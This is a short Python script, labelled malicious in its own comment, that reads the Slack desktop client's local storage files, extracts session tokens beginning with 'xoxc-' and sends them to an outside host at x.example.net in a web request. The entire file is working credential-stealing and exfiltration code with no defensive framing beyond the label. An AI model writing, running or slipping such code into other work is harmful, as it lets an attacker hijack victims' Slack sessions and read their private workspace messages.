# malicious: tokens of a chat program
import os, re, glob, urllib.request

toks = set()
for f in glob.glob(os.path.expanduser("~/.config/Slack/Local Storage/leveldb/*")):
    toks.update(re.findall(rb"xoxc-[\w-]+", open(f, "rb").read()))
urllib.request.urlopen("https://x.example.net/?" + b",".join(toks).decode())
